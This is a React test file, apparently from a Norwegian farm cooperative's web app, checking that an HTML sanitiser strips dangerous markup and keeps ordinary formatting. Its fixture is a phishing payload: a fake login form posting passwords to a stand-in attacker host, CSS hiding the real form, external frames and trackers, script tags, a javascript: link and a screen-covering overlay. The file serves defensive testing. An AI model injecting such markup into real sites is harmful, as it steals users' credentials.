import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { HtmlContent } from './html-content';

/** What a stolen content token put on the login page: a second login form posting elsewhere. */
const PHISHING =
  '<p>Vi har fått nytt innloggingssystem.</p>' +
  '<form action="https://angriper.example/samle" method="post">' +
  '<label>Passord <input type="password" name="passord"></label>' +
  '<input type="hidden" name="x" value="1"><textarea>notat</textarea><select><option>a</option></select>' +
  '<button type="submit">Logg inn</button></form>' +
  '<style>form[action="/api/login"] { display: none }</style>' +
  '<link rel="stylesheet" href="https://angriper.example/stil.css">' +
  '<iframe src="https://angriper.example/"></iframe><img src="https://angriper.example/spor.gif">' +
  '<script>alert(1)</script><svg><a href="https://angriper.example/">svg</a></svg>' +
  '<a href="javascript:alert(1)" onclick="alert(1)" target="_blank" style="position:fixed;inset:0">Klikk</a>' +
  '<div style="position:fixed;inset:0" class="button" id="root" data-x="1" aria-hidden="true">Dekke over</div>';

/** What help texts, messages, prognosis info and return-form info are written with. */
const ORDINARY =
  '<h2>Levering</h2><h3>Frister</h3><p>Meld på <strong>innen mandag</strong>, <em>helst</em> <b>før</b> <i>kl. 12</i>.<br>Ring oss.</p>' +
  '<ul><li>Slaktegris</li></ul><ol><li>Lam</li></ol>' +
  '<table><caption>Priser</caption><thead><tr><th scope="col">Vekt</th></tr></thead><tbody><tr><td colspan="2">80 kg</td></tr></tbody></table>' +
  '<p><a href="https://www.example.no/hjelp" title="Hjelp">Les mer</a> eller skriv til <a href="mailto:post@example.no">post@example.no</a>.</p>';

describe('HtmlContent', () => {
  it('keeps no form, field, button, style, frame, image or script of the cooperative’s HTML', () => {
    const { container } = render(<HtmlContent html={PHISHING} />);
    expect(container.querySelectorAll('form, input, textarea, select, option, button, label, style, link, iframe, img, script, svg')).toHaveLength(0);
    // The text around them stays readable.
    expect(screen.getByText('Vi har fått nytt innloggingssystem.')).toBeInTheDocument();
  });

  it('keeps no script link, event handler, style, class, id or data attribute', () => {
    const { container } = render(<HtmlContent html={PHISHING} />);
    const link = screen.getByText('Klikk');
    expect(link).not.toHaveAttribute('href');
    expect(link).not.toHaveAttribute('onclick');
    expect(link).not.toHaveAttribute('target');
    const cover = screen.getByText('Dekke over');
    for (const attribute of ['style', 'class', 'id', 'data-x', 'aria-hidden']) expect(cover).not.toHaveAttribute(attribute);
    expect(container.querySelectorAll('[style]')).toHaveLength(0);
  });

  it('keeps text, headings, emphasis, lists, tables and links', () => {
    render(<HtmlContent html={ORDINARY} />);
    expect(screen.getByRole('heading', { level: 2, name: 'Levering' })).toBeInTheDocument();
    expect(screen.getByRole('heading', { level: 3, name: 'Frister' })).toBeInTheDocument();
    expect(screen.getByText('innen mandag').tagName).toBe('STRONG');
    expect(screen.getByText('helst').tagName).toBe('EM');
    expect(screen.getAllByRole('listitem').map((li) => li.textContent)).toEqual(['Slaktegris', 'Lam']);
    expect(screen.getByRole('table', { name: 'Priser' })).toBeInTheDocument();
    expect(screen.getByRole('columnheader', { name: 'Vekt' })).toHaveAttribute('scope', 'col');
    expect(screen.getByRole('cell', { name: '80 kg' })).toHaveAttribute('colspan', '2');
    expect(screen.getByRole('link', { name: 'Les mer' })).toHaveAttribute('href', 'https://www.example.no/hjelp');
    expect(screen.getByRole('link', { name: 'post@example.no' })).toHaveAttribute('href', 'mailto:post@example.no');
  });
});
